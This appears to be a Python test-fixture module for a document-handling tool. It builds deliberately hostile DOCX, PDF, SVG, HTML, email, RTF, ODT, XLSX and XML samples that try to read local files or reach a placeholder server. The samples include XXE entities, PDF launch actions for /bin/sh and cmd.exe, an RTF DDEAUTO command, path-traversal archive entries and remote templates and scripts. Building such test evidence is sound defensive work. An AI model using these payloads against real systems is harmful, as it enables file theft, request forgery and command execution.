"""Files that reach outside: for a file of this computer or for a server; the words in them are honest."""

from __future__ import annotations

import base64
from collections.abc import Callable

from tests.evidence.archives import commented_rars
from tests.evidence.office import (
    OUTSIDE_FILE,
    OUTSIDE_HOST,
    RELATED,
    SVG,
    WORD,
    docx,
    odt,
    one_page,
    paragraph,
    relation,
    relations,
    xlsx,
)
from tests.evidence.samples import stream


def outside_entity(root: str) -> str:
    """A document type with an entity that is a file of this computer, and a table of them from a server."""
    return (
        f'<?xml version="1.0"?><!DOCTYPE {root} SYSTEM "{OUTSIDE_HOST}/a.dtd" '
        f'[<!ENTITY e29 SYSTEM "file://{OUTSIDE_FILE}">]>'
    )


def reaching_docx() -> bytes:
    """A Word document with a picture, a template and a frame that lie on a server and on this computer."""
    drawing = (
        '<w:drawing><wp:inline><wp:extent cx="9" cy="9"/><wp:docPr id="1" name="x"/><a:graphic><a:graphicData '
        'uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:blipFill>'
        '<a:blip r:link="{0}" r:embed="{0}"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline>'
        "</w:drawing>"
    )
    rows = (
        relation("p1", "image", f"{OUTSIDE_HOST}/a.png", True)
        + relation("p2", "image", f"file://{OUTSIDE_FILE}", True)
        + relation("p3", "image", "../../../../etc/passwd")
        + relation("t1", "attachedTemplate", f"{OUTSIDE_HOST}/a.dotm", True)
        + relation("f1", "frame", f"file://{OUTSIDE_FILE}", True)
    )
    body = "".join(paragraph(drawing.format(name)) for name in ("p1", "p2", "p3"))
    settings = (
        f'<w:settings xmlns:w="{WORD}" xmlns:r="{RELATED}"><w:attachedTemplate r:id="t1"/></w:settings>'
    )
    more = {
        "word/settings.xml": settings.encode(),
        "word/_rels/settings.xml.rels": relations(rows),
        "../../../../../../tmp/escaped.txt": b"x",
    }
    return docx(body + paragraph("<w:t>words</w:t>"), more=more, rows=rows)


def reaching_pdf() -> bytes:
    """A PDF that would start a program, run a script, open an address, fetch a form and bring a program along."""
    deeds = (
        b"<</S/JavaScript/JS(app.launchURL\\('%s'\\);)>>" % OUTSIDE_HOST.encode(),
        b"<</S/Launch/F(/bin/sh)/Win<</F(cmd.exe)>>>>",
        b"<</S/URI/URI(%s)>>" % OUTSIDE_HOST.encode(),
        b"<</S/SubmitForm/F(%s)>>" % OUTSIDE_HOST.encode(),
        b"<</S/GoToR/F(%s)/D[0/Fit]>>" % OUTSIDE_FILE.encode(),
    )
    marks = b"".join(
        b"<</Type/Annot/Subtype/Link/Rect[0 0 99 99]/A %s/AA<</PV %s>>>>" % (deed, deed) for deed in deeds
    )
    page = b"/Annots[%s]/AA<</O %s>>/Resources<</XObject<</X 5 0 R>>>>" % (marks, deeds[0])
    outside = stream(
        b"", b"/Type/XObject/Subtype/Image/Width 9/Height 9/F(%s)/FFilter/DCTDecode" % OUTSIDE_FILE.encode()
    )
    attached = stream(b"#!/bin/sh\nid", b"/Type/EmbeddedFile")
    catalog = (
        b"/OpenAction %s/Names<</EmbeddedFiles<</Names[(a.sh)<</Type/Filespec/F(a.sh)/EF<</F 6 0 R>>>>]>>>>"
        b"/AcroForm<</Fields[]/XFA 6 0 R>>" % deeds[1]
    )
    return one_page(b"9 0 0 9 0 0 cm /X Do", page, (outside, attached), catalog)


def _reaching_svg() -> bytes:
    nested = base64.b64encode(
        f'{SVG}<image href="file://{OUTSIDE_FILE}" width="9" height="9"/></svg>'.encode()
    )
    return (
        f'<?xml-stylesheet href="{OUTSIDE_HOST}/a.css"?>{SVG}'
        f"<style>@import url({OUTSIDE_HOST}/b.css); @font-face{{font-family:x;src:url(file://{OUTSIDE_FILE})}}</style>"
        f'<image href="file://{OUTSIDE_FILE}" width="9" height="9"/>'
        f'<image xlink:href="{OUTSIDE_FILE}" width="9" height="9"/>'
        '<image href="../../../../etc/passwd" width="9" height="9"/>'
        f'<image href="{OUTSIDE_HOST}/a.png" width="9" height="9"/>'
        f'<image href="data:image/svg+xml;base64,{nested.decode()}" width="9" height="9"/>'
        f'<use href="{OUTSIDE_HOST}/a.svg#x"/><use href="file://{OUTSIDE_FILE}#x"/>'
        f'<rect fill="url(file://{OUTSIDE_FILE}#x)" filter="url({OUTSIDE_HOST}/f.svg#f)" width="9" height="9"/>'
        f'<script href="{OUTSIDE_HOST}/a.js"/><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml"'
        f' src="file://{OUTSIDE_FILE}"/></foreignObject><text font-family="x" y="20">words</text></svg>'
    ).encode()


def _reaching_html() -> bytes:
    return (
        f'<!doctype html><html><head><base href="{OUTSIDE_HOST}/">'
        f'<meta http-equiv="refresh" content="0;url=file://{OUTSIDE_FILE}">'
        f'<link rel="stylesheet" href="a.css"><script src="a.js"></script>'
        f'<style>@import "{OUTSIDE_HOST}/b.css";</style></head>'
        f'<body background="{OUTSIDE_HOST}/b.png"><p>words</p>'
        f'<img src="file://{OUTSIDE_FILE}"><img src="{OUTSIDE_HOST}/a.png">'
        f'<iframe src="file://{OUTSIDE_FILE}"></iframe><object data="{OUTSIDE_HOST}/a.swf"></object><embed src="a.pdf">'
        f'<video src="a.mp4" autoplay></video><svg><image href="file://{OUTSIDE_FILE}"/></svg>'
        f'<form action="{OUTSIDE_HOST}"><input autofocus onfocus="fetch(1)"></form></body></html>'
    ).encode()


def _reaching_mail() -> bytes:
    return (
        b"From: a@example.org\r\nTo: b@example.org\r\nSubject: words\r\nMIME-Version: 1.0\r\n"
        b'Content-Type: message/external-body; access-type="local-file"; name="/etc/passwd"\r\n\r\n'
        b"Content-Type: text/html\r\n\r\n" + _reaching_html()
    )


def _reaching_rtf() -> bytes:
    field = rf'{{\field{{\*\fldinst INCLUDEPICTURE "{OUTSIDE_HOST}/a.png"}}{{\fldrslt words}}}}'
    link = rf'{{\field{{\*\fldinst DDEAUTO c:\\\\windows\\\\cmd.exe "/c id"}}{{\*\template {OUTSIDE_FILE}}}}}'
    return (r"{\rtf1\ansi " + field + link + r"{\object\objautlink{\*\objdata 0105}}words}").encode()


REACHING: dict[str, Callable[[], bytes]] = {
    "drawing.svg": _reaching_svg,
    "page.html": _reaching_html,
    "letter.docx": reaching_docx,
    "entity.docx": lambda: docx(paragraph("<w:t>&e29;</w:t>"), outside_entity("w:document")),
    "entity.svg": lambda: f'{outside_entity("svg")}{SVG}<text y="9">&e29;</text></svg>'.encode(),
    "entity.odt": lambda: odt("<text:p>&e29;</text:p>", outside_entity("office:document-content")),
    "entity.xlsx": lambda: xlsx("<sheetData/>", outside_entity("worksheet")),
    "linked.odt": lambda: odt(
        f'<text:p><draw:frame><draw:image xlink:href="file://{OUTSIDE_FILE}"/></draw:frame>'
        f'<draw:image xlink:href="{OUTSIDE_HOST}/a.png"/>words</text:p>'
    ),
    "form.pdf": reaching_pdf,
    "mail.eml": _reaching_mail,
    "note.rtf": _reaching_rtf,
    "note.md": lambda: (
        f"# words\n\n![a](file://{OUTSIDE_FILE}) ![b]({OUTSIDE_HOST}/a.png)\n\n".encode() + _reaching_html()
    ),
    "comment.rar": lambda: commented_rars()[0],
    "within.rar": lambda: commented_rars()[1],
    "list.xml": lambda: f"{outside_entity('a')}<a>&e29;</a>".encode(),
}
"""What tries to read a file of this computer or to reach a server; the words in it are honest."""
